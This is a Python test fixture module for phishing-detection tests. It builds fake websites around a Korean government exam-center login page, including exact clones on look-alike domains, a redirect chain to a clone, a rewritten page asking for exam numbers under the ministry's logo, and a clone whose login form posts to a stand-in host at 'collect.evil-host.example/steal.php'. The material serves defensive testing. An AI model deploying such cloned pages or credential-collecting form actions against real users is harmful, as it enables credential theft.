"""Fixture sites of the page-evidence tests, served by the loopback proxy (conftest.py):
the official login page, an exact clone, a clone whose form posts elsewhere, an exam
academy on a look-alike domain, a parked page, a redirect chain to a clone, a clone on a
weak domain. A test may change what a host serves (monkeypatch.setitem)."""

from __future__ import annotations

import io

from PIL import Image, ImageDraw


def emblem(kind: str, size: int = 128, fmt: str = "PNG") -> bytes:
    """A drawn logo: the ministry's emblem, or an academy's sign (nothing alike)."""
    img = Image.new("RGB", (128, 128), "white")
    d = ImageDraw.Draw(img)
    if kind == "gov":
        d.ellipse((8, 8, 120, 120), fill=(0, 70, 140))
        d.rectangle((40, 30, 88, 98), fill="white")
        d.polygon([(64, 10), (100, 64), (64, 118), (28, 64)], outline=(200, 30, 40), width=6)
    else:
        d.rectangle((0, 0, 128, 60), fill=(230, 160, 0))
        d.line((0, 128, 128, 0), fill=(20, 120, 20), width=10)
    out = io.BytesIO()
    img.resize((size, size)).save(out, fmt)
    return out.getvalue()


OFFICIAL = """<!doctype html><html lang="ko"><head><title>사이버국가고시센터</title><link rel="shortcut icon" href="/favicon.ico"></head><body>
<header><img src="/img/mpm_logo.png" alt="인사혁신처 로고"><nav><a href="/">홈</a><a href="/exam">시험정보</a><a href="/apply">원서접수</a><a href="/result">합격자발표</a></nav></header>
<main><h1>사이버국가고시센터 로그인</h1>
<p>국가공무원 공개경쟁채용시험 원서접수와 응시표 출력, 합격자 확인은 로그인한 뒤 이용할 수 있습니다. 인사혁신처가 운영합니다.</p>
<form action="/login" method="post"><label>아이디 <input name="userId"></label>
<label>비밀번호 <input type="password" name="userPw"></label><button>로그인</button></form>
<section><h2>공지사항</h2><ul><li>2026년도 국가공무원 7급 공개경쟁채용시험 시행계획 공고</li>
<li>2026년도 국가공무원 9급 공개경쟁채용시험 원서접수 안내</li><li>응시자 유의사항과 시험장 안내</li>
<li>장애인 응시자 편의지원 신청 안내</li><li>자주 묻는 질문과 상담 전화 안내</li></ul></section></main>
<footer>인사혁신처 세종특별자치시 한누리대로 499 사이버국가고시센터 문의 1234-5678</footer></body></html>"""
OFFSITE = OFFICIAL.replace('action="/login"', 'action="http://collect.evil-host.example/steal.php"')
ACADEMY = """<html><head><title>합격 고시학원</title></head><body><img src="/logo.png" alt="합격 고시학원"><h1>합격 고시학원 7급 9급 공무원 대비반</h1>
<p>서울 노량진 학원가에서 20년 동안 공무원 수험생을 가르쳐 온 학원입니다. 국어 영어 한국사 행정법 행정학 강의를
실강과 온라인으로 제공합니다. 수강 신청은 전화로 받습니다. 모의고사와 면접 대비반, 자습실과 상담실을 운영하며
교재와 강의 일정은 공지사항에서 확인하세요. 오시는 길 지하철 1호선 노량진역 3번 출구 도보 5분.</p></body></html>"""
PARKED = "<html><head><title>gosi.net</title></head><body>This domain is for sale. Buy this domain today.</body></html>"
# a phishing page written anew (its own words and markup, asking only for an exam number)
# wearing the ministry's logo: only the logo tells it is the official page's
NOTICE = """<html><head><title>시험 안내</title></head><body><div class="top"><img src="/s/logo.jpg" class="logo"></div>
<div class="box"><b>응시 자격 확인</b><span>합격자 확인을 위해 수험번호를 입력하시면 결과를 보여 드립니다. 확인 후 응시표를
다시 출력할 수 있으며 확인하지 않으면 응시가 제한될 수 있습니다. 문의 사항은 안내 창구로 연락해 주십시오.</span>
<form action="/send" method="post"><input name="name" placeholder="이름"><input name="examNo" placeholder="수험번호"><input type="submit"></form></div></body></html>"""
LOGO, ICON = emblem("gov"), emblem("gov", 32, "ICO")
SITES: dict[str, tuple[int, str, str | bytes]] = {  # host/path → status, location, body
    "www.gosi.kr/": (200, "", OFFICIAL),
    "www.gosi.kr/favicon.ico": (200, "", ICON),
    "www.gosi.kr/img/mpm_logo.png": (200, "", LOGO),
    "gosi-kr.com/favicon.ico": (200, "", ICON),
    "gosi-kr.com/img/mpm_logo.png": (200, "", LOGO),
    "gosi.co.kr/logo.png": (200, "", emblem("academy")),
    "gosi-notice.com/": (200, "", NOTICE),
    "gosi-notice.com/s/logo.jpg": (
        200,
        "",
        emblem("gov", 90, "JPEG"),
    ),  # the logo, smaller and recompressed
    "gosi-kr.com/": (200, "", OFFICIAL),
    "gosi-exam.net/": (200, "", OFFSITE),
    "gosi.co.kr/": (200, "", ACADEMY),
    "gosi.net/": (200, "", PARKED),
    "g0si.kr/": (302, "http://login-gosi.top/a", ""),
    "login-gosi.top/a": (302, "/b", ""),
    "login-gosi.top/b": (200, "", OFFICIAL),
    "goshi-info.com/": (200, "", OFFICIAL.replace("1234-5678", "010-0000-0000")),
}
